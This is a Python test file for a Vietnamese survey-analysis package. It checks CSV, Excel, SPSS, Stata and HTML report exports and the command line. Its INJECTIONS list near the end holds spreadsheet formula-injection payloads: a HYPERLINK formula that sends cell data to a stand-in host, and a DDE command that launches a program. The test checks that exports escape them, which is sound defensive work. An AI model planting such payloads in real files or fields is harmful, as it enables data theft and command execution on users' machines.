"""Exports: CSV with BOM, formatted XLSX, SPSS/Stata with labels, the report and the command line."""

import json
import pathlib
import subprocess
import sys

import pandas as pd
import pyreadstat
import pytest
import yaml
from openpyxl import load_workbook

from analysis import synthetic
from analysis.instruments import parse_questionnaire
from analysis.outputs import write_csv, write_dta, write_sav, write_xlsx
from analysis.quality import QualityPolicy
from analysis.report import write_report

ROOT = pathlib.Path(__file__).resolve().parents[2]
UNITS = {"u1": "Sở Tư pháp", "u2": "Xã Lý Sơn", "u3": "Phường Cẩm Thành"}


def load(rel: str) -> dict:
    """A YAML document of the repository's questionnaires/."""
    with open(ROOT / "questionnaires" / rel, encoding="utf-8") as fh:
        return yaml.safe_load(fh)


@pytest.fixture(scope="module")
def sipas():
    """Synthetic SIPAS service responses and strata over three units."""
    return synthetic.responses(load("sipas-service.yaml"), UNITS, per_unit=25, seed=7)


def test_csv_has_utf8_bom(tmp_path):
    """The CSV starts with the UTF-8 byte-order mark and keeps Vietnamese letters."""
    write_csv(pd.DataFrame({"unit_name": ["Xã Lý Sơn"]}), tmp_path / "t.csv")
    raw = (tmp_path / "t.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "Lý Sơn".encode() in raw


def test_xlsx_has_bold_frozen_vietnamese_headers(tmp_path):
    """Headers are Vietnamese and bold; the header row is frozen."""
    table = pd.DataFrame({"unit": ["u1"], "estimate": [81.234], "ci_low": [75.0], "ci_high": [86.0]})
    write_xlsx({"Chỉ số": table}, tmp_path / "t.xlsx")
    ws = load_workbook(tmp_path / "t.xlsx")["Chỉ số"]
    assert [c.value for c in ws[1]] == ["Đơn vị", "Ước lượng", "KTC 95% dưới", "KTC 95% trên"]
    assert ws["A1"].font.bold and ws.freeze_panes == "A2"
    assert ws["B2"].number_format == "0.00"


def test_sav_has_variable_and_value_labels(tmp_path, sipas):
    """The .sav opens with pyreadstat and carries item wording and option labels."""
    inst = parse_questionnaire(load("sipas-service.yaml"))
    write_sav(sipas[0], [inst], tmp_path / "r.sav")
    frame, meta = pyreadstat.read_sav(str(tmp_path / "r.sav"))
    assert len(frame) == len(sipas[0])
    assert meta.column_names_to_labels["a1_signs"] == inst.item("a1_signs").label_vi
    assert meta.variable_value_labels["a1_signs"][4.0] == "Hài lòng"


def test_dta_opens_with_integer_value_labels(tmp_path, sipas):
    """The .dta opens and single-choice codes carry their option labels."""
    inst = parse_questionnaire(load("sipas-service.yaml"))
    write_dta(sipas[0], [inst], tmp_path / "r.dta")
    frame, meta = pyreadstat.read_dta(str(tmp_path / "r.dta"))
    assert len(frame) == len(sipas[0])
    assert meta.variable_value_labels["a1_signs"][9] == "Không có ý kiến"


def test_report_writes_every_file(tmp_path, sipas):
    """write_report produces tables, workbook, .sav, .dta, charts, policy.json and index.html."""
    files = write_report(sipas[0], sipas[1], {"sipas-service": load("sipas-service.yaml")},
                         {"sipas-2023": load("frameworks/sipas-2023.yaml")}, tmp_path, QualityPolicy())
    for name in ("sipas_sipas-2023.csv", "ranking_sipas-2023.csv", "analysis.xlsx", "responses.sav",
                 "responses.dta", "units_sipas-2023.png", "profile_sipas-2023.png", "responses_over_time.png",
                 "quality_flags.csv", "item_nonresponse.csv", "policy.json", "index.html"):
        assert (tmp_path / name).is_file() and name in files, name


def test_report_html_shows_provisional_and_policy_notices(tmp_path, sipas):
    """The summary names the provisional framework and the quality policy, with no external assets."""
    write_report(sipas[0], sipas[1], [load("sipas-service.yaml")], [load("frameworks/sipas-2023.yaml")],
                 tmp_path, QualityPolicy(exclude_speeders=True))
    page = (tmp_path / "index.html").read_text(encoding="utf-8")
    assert "Khung chỉ số tạm thời" in page and "Provisional framework" in page
    assert "exclude_speeders" in page and "KTC 95%" in page
    assert "http://" not in page and "https://" not in page


def test_report_on_open_link_wave_says_unweighted(tmp_path, sipas):
    """Without strata the summary carries the unweighted notice."""
    write_report(sipas[0].assign(stratum=""), None, [load("sipas-service.yaml")],
                 [load("frameworks/sipas-2023.yaml")], tmp_path)
    assert "Estimates are unweighted" in (tmp_path / "index.html").read_text(encoding="utf-8")


def write_json(path: pathlib.Path, document: dict) -> pathlib.Path:
    """Write a document as the app exports it (JSON) and return the path."""
    path.write_text(json.dumps(document, ensure_ascii=False, sort_keys=True), encoding="utf-8")
    return path


def test_command_line_runs_on_a_csv(tmp_path, sipas):
    """python -m analysis reads the CSVs and the JSON documents and writes index.html."""
    sipas[0].to_csv(tmp_path / "r.csv", index=False)
    sipas[1].to_csv(tmp_path / "s.csv", index=False)
    questionnaire = write_json(tmp_path / "q.json", load("sipas-service.yaml"))
    framework = write_json(tmp_path / "f.json", load("frameworks/sipas-2023.yaml"))
    cmd = [sys.executable, "-m", "analysis", "--responses", str(tmp_path / "r.csv"), "--strata",
           str(tmp_path / "s.csv"), "--questionnaire", str(questionnaire), "--framework", str(framework),
           "--out", str(tmp_path / "o")]
    result = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "o" / "index.html").is_file()


def export_folder(folder: pathlib.Path, sipas) -> pathlib.Path:
    """Write the responses, strata and documents as `flask analysis export` does; return the folder."""
    sipas[0].to_csv(folder / "responses.csv", index=False)
    sipas[1].to_csv(folder / "strata.csv", index=False)
    write_json(folder / "sipas-service.json", load("sipas-service.yaml"))
    write_json(folder / "sipas-2023.json", load("frameworks/sipas-2023.yaml"))
    write_json(folder / "versions.json", {"wave": "2025", "documents": [], "notes": []})
    return folder


def test_command_line_runs_on_an_export_folder(tmp_path, sipas):
    """python -m analysis --export DIR tells questionnaires from frameworks by their kind."""
    export_folder(tmp_path, sipas)
    result = subprocess.run([sys.executable, "-m", "analysis", "--export", str(tmp_path), "--out",
                             str(tmp_path / "o")], cwd=ROOT, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    assert list((tmp_path / "o").glob("sipas_*.csv"))


def test_command_line_refuses_yaml(tmp_path, sipas):
    """A YAML file is refused in one line: the app is the one reader of YAML."""
    sipas[0].to_csv(tmp_path / "r.csv", index=False)
    cmd = [sys.executable, "-m", "analysis", "--responses", str(tmp_path / "r.csv"),
           "--questionnaire", str(ROOT / "questionnaires/sipas-service.yaml"),
           "--framework", str(ROOT / "questionnaires/frameworks/sipas-2023.yaml"),
           "--out", str(tmp_path / "o")]
    result = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, check=False)
    assert result.returncode == 2
    assert result.stderr.strip().endswith("YAML is not read here; validate and export it with the app "
                                          "(flask --app survey analysis export) and pass the .json documents")
    assert not (tmp_path / "o").exists()


INJECTIONS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "+1+cmd|' /C calc'!A0", "-2+3",
              "@SUM(A1:A9)", "\t=1+1"]


def test_csv_and_xlsx_escape_formulas_but_not_numbers(tmp_path):
    """Text that a spreadsheet would run (=, +, -, @, tab) gets a leading quote; numbers stay numbers."""
    table = pd.DataFrame({"unit_name": INJECTIONS + ["Xã -1", "-1.5"],
                          "estimate": [-1.5, 2.0, -0.25, 3.0, 4.0, 5.0, 6.0]})
    write_csv(table, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", dtype={"unit_name": str})
    assert list(back["unit_name"]) == ["'" + v for v in INJECTIONS] + ["Xã -1", "-1.5"]
    assert list(back["estimate"]) == [-1.5, 2.0, -0.25, 3.0, 4.0, 5.0, 6.0]
    write_xlsx({"t": table}, tmp_path / "t.xlsx")
    ws = load_workbook(tmp_path / "t.xlsx")["t"]
    cells = [row for row in ws.iter_rows(min_row=2, values_only=True)]
    assert [c[0] for c in cells] == ["'" + v for v in INJECTIONS] + ["Xã -1", "-1.5"]
    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(2, 9))
    assert [c[1] for c in cells] == [-1.5, 2.0, -0.25, 3.0, 4.0, 5.0, 6.0]


def test_sav_and_dta_keep_text_as_it_is(tmp_path):
    """SPSS and Stata files are not spreadsheets: free text is written unchanged."""
    data = pd.DataFrame({"note": ["=1+1", "-x"], "age": [-1.5, 2.0]})
    write_sav(data, [], tmp_path / "t.sav")
    write_dta(data, [], tmp_path / "t.dta")
    for name, reader in (("t.sav", pyreadstat.read_sav), ("t.dta", pyreadstat.read_dta)):
        frame, _meta = reader(str(tmp_path / name))
        assert list(frame["note"]) == ["=1+1", "-x"] and list(frame["age"]) == [-1.5, 2.0]
